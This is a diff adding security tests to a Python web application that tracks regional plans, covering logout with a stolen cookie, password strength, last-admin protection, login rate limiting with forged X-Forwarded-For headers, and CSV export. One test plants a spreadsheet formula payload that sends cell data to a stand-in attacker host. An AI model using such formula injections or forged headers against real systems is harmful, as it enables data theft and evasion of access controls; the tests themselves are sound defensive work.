@@ -346,3 +346,121 @@ def test_the_all_plans_value_never_opens_an_unpublished_plan(app, sqlite_store):
         page = _page(client, path, search)
         assert statement not in page and "Pencegahan, Pembinaan" not in page, path
         assert "Belum ada RAD yang dipublikasikan" in page, path
+
+
+def _cli(engine, *args, stdin=None):
+    from radtrack.cli import main
+
+    env = {"RADTRACK_DATABASE_URL": str(engine.url)}
+    return CliRunner().invoke(main, [str(a) for a in args], input=stdin, env=env)
+
+
+def test_logout_ends_the_session_even_for_a_copied_cookie(app, sqlite_store):
+    _account(sqlite_store, "sekretariat", "admin")
+    client = app.server.test_client()
+    _login(client, "sekretariat")
+    thief = app.server.test_client()
+    thief.set_cookie("session", client.get_cookie("session").value)
+    assert thief.get("/download/audit.csv").status_code == 200  # the copy works while signed in
+    logout = client.post("/logout", data={"csrf_token": _form_token(client)})
+    assert logout.status_code == 302
+    assert thief.get("/download/audit.csv").status_code == 403  # the copied cookie is dead too
+    with session(sqlite_store) as s:
+        from indicators.audit import audit_table
+
+        assert audit_table(s, 1).iloc[0]["action"] == "user.logged_out"
+
+
+def _form_token(client) -> str:
+    """A CSRF token of `client`'s session, as a form on the site would carry it."""
+    page = client.get("/login").get_data(as_text=True)
+    return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
+
+
+def test_passwords_are_changed_checked_for_strength_and_end_sessions(app, sqlite_store):
+    _account(sqlite_store, "sekretariat", "admin")
+    _account(sqlite_store, "kedua", "admin")
+    client = app.server.test_client()
+    _login(client, "kedua")
+    assert client.get("/download/audit.csv").status_code == 200
+    weak = _cli(sqlite_store, "user", "passwd", "kedua", "--password-stdin", stdin="password1234\n")
+    assert weak.exit_code != 0 and "too weak" in weak.output and "common" in weak.output
+    changed = _cli(
+        sqlite_store, "user", "passwd", "kedua", "--password-stdin", stdin="Timor Utara 2025 ok\n"
+    )
+    assert changed.exit_code == 0, changed.output
+    assert client.get("/download/audit.csv").status_code == 403  # signed out everywhere
+    assert _login(client, "kedua").status_code == 401  # the old password no longer works
+    assert _login(client, "kedua", "Timor Utara 2025 ok").status_code == 302
+    for weak_one in ("1234567890", "qwertyuiop", "sekretariat1"):
+        result = _cli(sqlite_store, "user", "add", "z", "--role", "viewer", "--password", weak_one)
+        assert result.exit_code != 0 and "too weak" in result.output, weak_one
+
+
+def test_the_last_admin_cannot_be_removed_and_a_removed_name_comes_back(app, sqlite_store):
+    _account(sqlite_store, "sekretariat", "admin")
+    _account(sqlite_store, "pembaca", "viewer")
+    refused = _cli(sqlite_store, "user", "remove", "sekretariat")
+    assert refused.exit_code != 0 and "last active admin" in refused.output
+    client = app.server.test_client()
+    assert client.get("/download/audit.csv").status_code == 403  # still closed
+    assert _cli(sqlite_store, "user", "remove", "pembaca").exit_code == 0
+    again = _cli(
+        sqlite_store, "user", "add", "pembaca", "--role", "viewer", "--password-stdin",
+        stdin=f"{PASSWORD}\n",
+    )  # fmt: skip
+    assert again.exit_code == 0, again.output
+    assert "GetPassWarning" not in again.output
+    listed = _cli(sqlite_store, "user", "list").output.splitlines()
+    assert sorted(listed) == ["pembaca\tviewer", "pembaca\tviewer (nonaktif)", "sekretariat\tadmin"]
+    assert _login(client, "pembaca").status_code == 302
+
+
+def test_login_limits_follow_the_client_behind_a_trusted_proxy_and_the_account(
+    app, sqlite_store, monkeypatch
+):
+    """Behind the reverse proxy the README recommends every request comes from its address:
+    five wrong guesses by one client must not lock out the others, and the audit log names the
+    client. A client cannot dodge the limit by writing its own X-Forwarded-For, and guesses at
+    one account from many addresses are limited too."""
+    _account(sqlite_store, "sekretariat", "admin")
+    _account(sqlite_store, "kedua", "admin")
+    monkeypatch.setenv("RADTRACK_TRUSTED_PROXIES", "127.0.0.1/32")
+    client = app.server.test_client()
+
+    def attempt(client_ip, name="sekretariat", password="salah-salah-salah", forged=""):
+        header = f"{forged}, {client_ip}" if forged else client_ip
+        page = client.get("/login").get_data(as_text=True)
+        token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
+        data = {"username": name, "password": password, "csrf_token": token}
+        return client.post("/login", data=data, headers={"X-Forwarded-For": header}).status_code
+
+    assert [attempt("203.0.113.7") for _ in range(6)] == [401] * 5 + [429]
+    assert attempt("203.0.113.7", forged="198.51.100.99") == 429  # a forged hop changes nothing
+    assert attempt("198.51.100.20", name="kedua", password=PASSWORD) == 302  # others get in
+    with session(sqlite_store) as s:
+        from indicators.audit import audit_table
+
+        failed = audit_table(s)
+        failed = failed[failed["action"] == "login.failed"]
+        assert set(failed["target"]) == {"203.0.113.7"}
+    _account(sqlite_store, "ketiga", "viewer")
+    statuses = [attempt(f"192.0.2.{n}", name="ketiga") for n in range(11)]
+    assert statuses[:10] == [401] * 10 and statuses[10] == 429  # one account, many addresses
+
+
+def test_the_audit_csv_carries_no_live_formula(app, sqlite_store):
+    """An anonymous visitor plants a formula through a failed login's user name."""
+    _account(sqlite_store, "sekretariat", "admin")
+    client = app.server.test_client()
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    page = client.get("/login").get_data(as_text=True)
+    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
+    client.post("/login", data={"username": planted, "password": "x", "csrf_token": token})
+    _login(client, "sekretariat")
+    text = client.get("/download/audit.csv").get_data(as_text=True)
+    assert "'=HYPERLINK" in text
+    assert not any(
+        line.split(",")[1].lstrip('"').startswith(("=", "+", "-", "@"))
+        for line in text.splitlines()[1:]
+    )
